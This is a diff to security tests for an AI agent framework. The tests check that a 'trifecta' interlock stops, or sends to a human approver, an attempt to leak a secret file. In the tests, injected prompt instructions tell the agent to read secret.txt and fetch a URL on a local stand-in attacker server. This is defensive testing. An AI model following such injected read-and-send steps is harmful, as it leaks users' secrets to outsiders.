@@ -2,7 +2,10 @@
 interlock stops it, and every refusal shows in the events and the RunResult.
 
 These tests reach loopback on purpose, so they pass ``block_private_ips=False``: only the
-trifecta interlock stands between the secret and the attacker.
+trifecta interlock stands between the secret and the attacker. They pin the interlock
+(``rule = "interlock"``): their injected instructions sit in the user's prompt, which the
+provenance rule trusts as the user's words. tests/security/test_provenance.py plays the
+same attacks from untrusted text against the provenance rule.
 """
 
 from __future__ import annotations
@@ -28,7 +31,7 @@ from tether import Decision, SecurityConfig, Taint, Tool
 from tether import events as ev
 from tether.agent import Conversation
 
-OPEN = SecurityConfig(block_private_ips=False)
+OPEN = SecurityConfig(block_private_ips=False, rule="interlock")
 
 
 
@@ -118,7 +121,7 @@ async def test_trifecta_ask_sends_the_armed_call_to_the_approver_with_reason_tri
     prompt = instruction(("read_file", {"path": "secret.txt"})) + "\n" + instruction(
         ("fetch_url", {"url": leak_url(attacker)}))
     result = await agent(Compromised().model(), ws, tools, approver=approver,
-                         security=SecurityConfig(trifecta="ask",
+                         security=SecurityConfig(trifecta="ask", rule="interlock",
                                                  block_private_ips=False)).run(prompt)
 
     nothing_left(attacker, guard)
@@ -141,7 +144,7 @@ async def test_trifecta_ask_lets_the_person_decide_to_send(
         ("fetch_url", {"url": attacker.url + "/ok"})) + "\n" + instruction(
         ("fetch_url", {"url": attacker.url + "/again"}))
     result = await agent(Compromised().model(), ws, tools, approver=approver,
-                         security=SecurityConfig(trifecta="ask",
+                         security=SecurityConfig(trifecta="ask", rule="interlock",
                                                  block_private_ips=False)).run(prompt)
     assert [r.path for r in attacker.requests] == ["/ok", "/again"]
     # A trifecta decision is never cached for the session: each armed send is asked.
